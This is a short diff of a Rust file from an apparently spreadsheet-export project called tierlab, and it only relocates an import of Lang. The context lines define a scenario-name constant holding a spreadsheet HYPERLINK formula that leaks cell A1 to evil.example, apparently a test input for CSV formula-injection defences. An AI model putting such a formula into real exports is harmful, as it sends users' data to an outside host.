@@ -12,7 +12,6 @@
 
 use std::process::Command;
 
-use tierlab::chart::Lang;
 use tierlab::export::{monthly_csv, monthly_csv_in};
 use tierlab::fit::{dates::Date, fit, FitOptions};
 use tierlab::metrics::simulate;
@@ -21,6 +20,7 @@ use tierlab::study::{
     compare, design, replicate, replicate_comparison, seek_liability_ceiling, seek_thresholds,
     sweep, tier_names, tornado, LadderDesign, PointsLever, Progression,
 };
+use tierlab::words::Lang;
 
 const SCENARIO_NAME: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
 const TIER_NAMES: [&str; 3] = [
